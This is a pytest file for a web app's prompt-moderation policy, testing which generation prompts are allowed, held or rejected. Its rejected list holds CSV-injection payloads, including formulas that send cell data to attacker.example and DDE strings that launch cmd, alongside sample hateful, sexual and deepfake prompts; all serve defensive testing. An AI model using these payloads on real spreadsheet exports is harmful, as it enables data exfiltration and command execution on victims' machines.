"""The prompt policy's rules with real-looking prompts: what is allowed (near misses
included), held for a moderator, or rejected, and why. Pure: no database."""

import json
from pathlib import Path

import pytest

from webapp.policy import screening as policy

ALLOWED = [
    "A red fox running through fresh snow at golden hour",
    # Near misses: a word that is also a weapon, a body part or a crime inside another word.
    "a kid shooting hoops in a driveway at sunset",
    "a cocktail shaker pouring a margarita, slow motion",
    "grape harvest in a Tuscan vineyard, drone shot",
    "a shooting star over the desert",
    "blue tits at a bird feeder in winter",
    "a rooster crowing at dawn on a farm",
    "Essex countryside with rolling fog",
    "an epic battle between two chess knights made of glass",
    "a zombie movie trailer with dramatic lighting",
    "a surgeon's hands stitching a teddy bear",
    # Decision: a public figure's name followed by a place word is the place (the Hilton hotel
    # in Paris), not the person. The list of such words is data (not_a_person_when_followed_by).
    "Paris Hilton hotel lobby at night",
    "Washington street in the rain, 35mm film look",
    # Near misses of a spreadsheet formula: a dash before words, an at-sign without a call.
    "- a (red) fox in fresh snow",
    "@home: a cat asleep on a sofa",
    "a chalkboard reading 2 + 2 = 4 (in a classroom)",
]

HELD = [
    ("Paris Hilton dancing on a yacht", "real_person", "public_figure_named"),
    ("Elon Musk riding a horse on Mars", "real_person", "public_figure_named"),
    ("my ex-girlfriend crying in the rain", "real_person", "private_person"),
    ("a corpse floating in a misty lake", "violence", "violent_terms"),
    ("a woman in lingerie on a balcony", "sexual", "suggestive_terms"),
    ("a swastika flag burning", "hate", "hate_symbols"),
    ("realistic cctv footage of a bank robbery", "misinformation", "fake_evidence"),
    ("a product demo, see www.example.com", "spam", "links"),
    ("a sunset, contact me at someone@example.com", "spam", "contact_details"),
]

REJECTED = [
    ("in the style of a news broadcast of Joe Biden announcing a military draft", "real_person"),
    ("Taylor Swift press conference confessing to fraud", "real_person"),
    ("leaked bodycam footage of Donald Trump being arrested", "real_person"),
    ("a deepfake of my boss", "real_person"),
    ("a naked woman on a beach", "sexual"),
    ("n.u.d.e dancer on a stage", "sexual"),  # dotted spelling
    ("s3xy p0rn scene", "sexual"),  # letter/number swaps
    ("schoolgirl in lingerie", "sexual"),
    ("a man shooting a woman in the street", "violence"),
    ("beheading video in the desert", "violence"),
    ("kill all the immigrants", "hate"),
    ("heil hitler rally at night", "hate"),
    ("buy cheap watches www.spam.ru and http://cheap.example.com", "spam"),
    ("aaaaaaaaaaaaaaaaaaaaaaaa", "spam"),
    ("buy buy buy buy buy buy buy now", "spam"),
    ("!!!! ????", "spam"),
    # Spreadsheet formulas (CSV injection through the exports): refused whatever the wrapping.
    ('=IMPORTXML("http://attacker.example/?leak="&A1, "//a")', "spreadsheet_formula"),
    ('= HYPERLINK("http://attacker.example", "a fox")', "spreadsheet_formula"),
    ("+SUM(A1:A9) of a fox", "spreadsheet_formula"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "spreadsheet_formula"),
    ("-cmd|' /C notepad'!A0", "spreadsheet_formula"),
    ('a fox in snow =WEBSERVICE("http://attacker.example")', "spreadsheet_formula"),
    ('\uff1dIMPORTDATA("http://attacker.example")', "spreadsheet_formula"),  # full-width equals sign
]


@pytest.fixture(autouse=True)
def rules_only(settings):
    settings.MODERATION_CLASSIFIERS = ["webapp.policy.screening.RulesClassifier"]


@pytest.mark.parametrize("text", ALLOWED)
def test_allowed_prompts_and_near_misses_pass(text):
    verdict = policy.check(text)
    assert verdict.outcome == policy.ALLOW, verdict.findings
    assert verdict.findings == ()


@pytest.mark.parametrize("text, category, rule", HELD)
def test_held_prompts_name_the_rule(text, category, rule):
    verdict = policy.check(text)
    assert verdict.outcome == policy.HOLD, verdict.findings
    assert any(f.category == category and f.rule == rule for f in verdict.findings), verdict.findings
    assert verdict.reasons and all(isinstance(r, str) and r for r in verdict.reasons)


@pytest.mark.parametrize("text, category", REJECTED)
def test_rejected_prompts_say_why(text, category):
    verdict = policy.check(text)
    assert verdict.outcome == policy.REJECT, verdict.findings
    assert category in verdict.categories
    assert verdict.reasons  # shown to the submitter


def test_a_public_figure_in_a_deceptive_context_is_rejected_not_merely_held():
    mention = policy.check("Joe Biden eating ice cream")
    framed = policy.check("a news broadcast of Joe Biden eating ice cream")
    assert mention.outcome == policy.HOLD and framed.outcome == policy.REJECT
    assert "joe biden" in framed.findings[0].match


def test_the_negative_prompt_is_checked_for_spam_only():
    # "no nudity" in a negative prompt steers away from what the policy forbids.
    assert policy.check("a quiet beach at dawn", "no nudity, no text, no watermark").outcome == policy.ALLOW
    assert policy.check("a quiet beach", "zzzzzzzzzzzzzzzzzzzz").outcome == policy.REJECT


def test_every_prompt_of_the_official_suite_is_allowed():
    suite = json.loads(Path("webapp/arena/data/prompt_suite.json").read_text())
    texts = [p["text"] for p in suite["prompts"]]
    assert len(texts) > 20
    refused = {t: policy.check(t).outcome for t in texts if policy.check(t).outcome != policy.ALLOW}
    assert refused == {}


def test_rules_are_data_and_an_operator_file_replaces_them(tmp_path):
    rules = json.loads(policy.RULES_FILE.read_text())
    rules["categories"]["violence"]["rules"].append({"id": "house_rule", "outcome": "reject", "terms": ["kaiju"]})
    path = tmp_path / "rules.json"
    path.write_text(json.dumps(rules))
    assert policy.RulesClassifier(path).classify("a kaiju stomping on Tokyo")[0].rule == "house_rule"
    assert policy.RulesClassifier().classify("a kaiju stomping on Tokyo") == []


class ShoutingClassifier:
    """A stand-in for an operator's model-based classifier: it holds prompts in capitals."""

    name = "shouting"

    def classify(self, text, negative_prompt=""):
        if text.isupper():
            return [policy.Finding("spam", "shouting", policy.HOLD, "Please do not shout.", text[:20])]
        return []


def test_classifiers_are_pluggable_and_the_strictest_outcome_wins(settings):
    settings.MODERATION_CLASSIFIERS = [
        "webapp.policy.screening.RulesClassifier",
        "tests.unit.test_policy.ShoutingClassifier",
    ]
    assert policy.check("A RED FOX IN THE SNOW").outcome == policy.HOLD
    assert policy.check("A NAKED MAN").outcome == policy.REJECT  # rules reject beats a hold
    assert policy.check("a red fox in the snow").outcome == policy.ALLOW


def test_a_classifier_without_classify_is_refused_at_load(settings):
    settings.MODERATION_CLASSIFIERS = ["webapp.moderation.models.AppendOnly"]
    with pytest.raises(TypeError, match="classify"):
        policy.check("a red fox")
